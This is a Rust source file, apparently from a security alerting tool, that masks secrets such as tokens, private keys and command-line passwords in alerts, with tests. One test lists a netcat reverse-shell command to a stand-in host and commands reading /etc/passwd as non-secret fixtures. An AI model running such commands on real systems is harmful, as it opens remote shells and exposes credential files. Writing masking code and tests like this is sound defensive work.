//! Masks secrets in what leaves the program. Best effort: it knows the usual shapes, not every secret.

use crate::analysis::Analysis;
use crate::model::{Alert, Value};
use regex::{Captures, Regex};
use std::borrow::Cow;
use std::sync::LazyLock;

/// What stands in place of a secret.
const MASK: &str = "‹masked›";

/// Shapes of secrets: the group `s` is the secret, the rest stays. Sources: the issuers' documentation of their token
/// formats (AWS, GitHub, GitLab, Slack, Google, Stripe), RFC 7519 for tokens of three parts, RFC 7468 for PEM.
const SHAPES: &[&str] = &[
    r"(?s)-----BEGIN [A-Z ]*PRIVATE KEY-----(?P<s>.*?)(?:-----END [A-Z ]*PRIVATE KEY-----|\z)",
    r#"(?i)\bauthorization:\s*(?:basic|bearer|token|digest|apikey)?\s*(?P<s>[^\s'",;]+)"#,
    r"(?i)\bbearer\s+(?P<s>[A-Za-z0-9._~+/=-]{8,})",
    r"\b[a-zA-Z][a-zA-Z0-9+.-]*://[^\s/:@]*:(?P<s>[^\s/@]+)@",
    r#"(?i)(?:^|[\s'"])(?:-u|--user|--proxy-user)[ =]+['"]?[^\s:'"]+:(?P<s>[^\s'"]+)"#,
    r"\b(?P<s>(?:AKIA|ASIA|AROA|AIDA)[A-Z0-9]{16})\b",
    r"\b(?P<s>gh[pousr]_[A-Za-z0-9]{16,}|github_pat_[A-Za-z0-9_]{20,}|glpat-[A-Za-z0-9_-]{16,})",
    r"\b(?P<s>xox[abeprs]-[A-Za-z0-9-]{8,}|xapp-[A-Za-z0-9-]{8,})",
    r"\b(?P<s>AIza[A-Za-z0-9_-]{30,}|ya29\.[A-Za-z0-9_-]{20,}|sk_live_[A-Za-z0-9]{16,}|sk-[A-Za-z0-9_-]{20,}|npm_[A-Za-z0-9]{30,}|hvs\.[A-Za-z0-9]{20,})",
    r"\b(?P<s>eyJ[A-Za-z0-9_-]{6,}\.[A-Za-z0-9_-]{6,}\.[A-Za-z0-9_-]*)",
    r#"(?i)(?:^|[\s'"&?;,{(])-{0,2}[a-z0-9_.-]*(?:passw(?:or)?d|passwd|passphrase|pwd|secret|token|api[_-]?key|access[_-]?key|private[_-]?key|client[_-]?secret|credential)[a-z0-9_.-]*['"]?\s*[=:]\s*['"]?(?P<s>[^\s'"&;,})]+)"#,
    r#"(?i)(?:^|\s)--?(?:[a-z0-9-]*(?:password|passwd|passphrase|secret|token|api-key|apikey|access-key))\s+['"]?(?P<s>[^\s'"-][^\s'"]*)"#,
    r"\b(?:mysql|mysqldump|mysqladmin|mariadb|mariadb-dump)\b[^|;&\n]*?\s-p(?P<s>[^\s-][^\s]*)",
    r"\b(?:sshpass|redis-cli|smbclient|curlftpfs)\b[^|;&\n]*?\s-[pa]\s*(?P<s>[^\s-][^\s]*)",
];

/// A long word of many kinds of characters behind a word that announces a secret.
const ANNOUNCED: &str =
    r"(?i)\b(?:key|token|secret|passw[a-z]*)\b[^A-Za-z0-9]{1,4}(?P<s>[A-Za-z0-9+/=_-]{25,})";

static PATTERNS: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    SHAPES.iter().chain([&ANNOUNCED]).filter_map(|shape| Regex::new(shape).ok()).collect()
});

/// Masks the secrets of a text; gives how many there were.
pub fn secrets(text: &str) -> (Cow<'_, str>, usize) {
    let mut masked = Cow::Borrowed(text);
    let mut n = 0;
    for pattern in PATTERNS.iter() {
        if !pattern.is_match(&masked) {
            continue;
        }
        let replaced = pattern.replace_all(&masked, |found: &Captures<'_>| {
            let (Some(whole), Some(secret)) = (found.get(0), found.name("s")) else {
                return String::new();
            };
            if secret.as_str().is_empty()
                || secret.as_str().contains(MASK)
                || is_reference(secret.as_str())
            {
                return whole.as_str().to_owned();
            }
            n += 1;
            let (before, after) = (secret.start() - whole.start(), secret.end() - whole.start());
            let part = |from: usize, to: usize| whole.as_str().get(from..to).unwrap_or_default();
            format!("{}{MASK}{}", part(0, before), part(after, whole.len()))
        });
        masked = Cow::Owned(replaced.into_owned());
    }
    (masked, n)
}

/// Masks the secrets in everything an alert says; gives how many there were.
pub fn alert(alert: &mut Alert) -> usize {
    let in_output = alert.output.as_mut().map_or(0, boxed);
    in_output + alert.fields.0.iter_mut().map(|(_, value)| self::value(value)).sum::<usize>()
}

fn value(value: &mut Value) -> usize {
    match value {
        Value::String(text) => boxed(text),
        Value::Array(items) => items.iter_mut().map(self::value).sum(),
        Value::Object(members) => members.iter_mut().map(|(_, inner)| self::value(inner)).sum(),
        Value::Null | Value::Bool(_) | Value::Number(_) => 0,
    }
}

/// Masks the secrets in everything an analysis quotes; gives how many there were. Finished commands stay as they are:
/// they hold typed values only.
pub fn analysis(analysis: &mut Analysis) -> usize {
    let Analysis {
        headline, summary, proves, not_proven, facts, assessment, causes, missing, ..
    } = analysis;
    let facts = facts.iter_mut().flat_map(|fact| [&mut fact.value, &mut fact.says]);
    let reasons = assessment.reasons.iter_mut().map(|reason| &mut reason.says);
    let causes = causes.iter_mut().flat_map(|cause| [&mut cause.title, &mut cause.check]);
    let missing = missing.iter_mut().map(|missing| &mut missing.why);
    let texts = [headline, summary]
        .into_iter()
        .chain(proves)
        .chain(not_proven)
        .chain(facts)
        .chain(reasons)
        .chain(causes)
        .chain(missing);
    texts.map(in_place).sum()
}

fn boxed(text: &mut Box<str>) -> usize {
    let (masked, n) = secrets(text);
    if n > 0 {
        *text = masked.into();
    }
    n
}

fn in_place(text: &mut String) -> usize {
    let (masked, n) = secrets(text);
    if n > 0 {
        *text = masked.into_owned();
    }
    n
}

/// What only names a secret: a variable, a file, nothing.
fn is_reference(text: &str) -> bool {
    text.starts_with('$')
        || matches!(text, "null" | "true" | "false" | "-" | "<NA>" | "NULL" | "none")
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[track_caller]
    fn check(text: &str, expected: &str) {
        let (masked, n) = secrets(text);
        assert_eq!(masked, expected);
        assert_eq!(n, expected.matches(MASK).count());
    }

    #[test]
    fn secrets_are_masked_and_the_rest_stays() {
        check("mysql -u root -phunter2 shop", "mysql -u root -p‹masked› shop");
        check("app --password=hunter2 --port 80", "app --password=‹masked› --port 80");
        check("app --db-password hunter2 run", "app --db-password ‹masked› run");
        check("curl https://ana:hunter2@example.org/x", "curl https://ana:‹masked›@example.org/x");
        check("curl -u ana:hunter2 example.org", "curl -u ana:‹masked› example.org");
        check(
            "curl -H 'Authorization: Bearer abc.def-123' x",
            "curl -H 'Authorization: Bearer ‹masked›' x",
        );
        check("aws AKIAIOSFODNN7EXAMPLE", "aws ‹masked›");
        check("AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG x", "AWS_SECRET_ACCESS_KEY=‹masked› x");
        check("git clone ghp_0123456789abcdefghij0123456789abcdef", "git clone ‹masked›");
        check("xoxb-123456789-abcdef", "‹masked›");
        check("t eyJhbGciOiJI.eyJzdWIiOiIx.c2lnbmF0dXJl", "t ‹masked›");
        check(
            "-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY-----",
            "-----BEGIN RSA PRIVATE KEY-----‹masked›-----END RSA PRIVATE KEY-----",
        );
        check("{\"api_key\": \"0123456789\"}", "{\"api_key\": \"‹masked›\"}");
    }

    #[test]
    fn what_is_no_secret_stays() {
        for text in [
            "nc -e /bin/sh example.com 22",
            "cat /etc/passwd",
            "mkdir -p /tmp/x",
            "mysql -p",
            "docker login --password-stdin",
            "echo --password=$PASSWORD",
            "10:00:00.000000000: Warning Sensitive file opened (file=/etc/shadow token=<NA>)",
        ] {
            assert_eq!(secrets(text), (Cow::Borrowed(text), 0));
        }
    }

    proptest! {
        #[test]
        fn masking_twice_changes_nothing(text in "[ -~]{0,80}") {
            let (once, _) = secrets(&text);
            let (twice, n) = secrets(&once);
            prop_assert_eq!((&twice, n), (&once, 0));
        }
    }
}
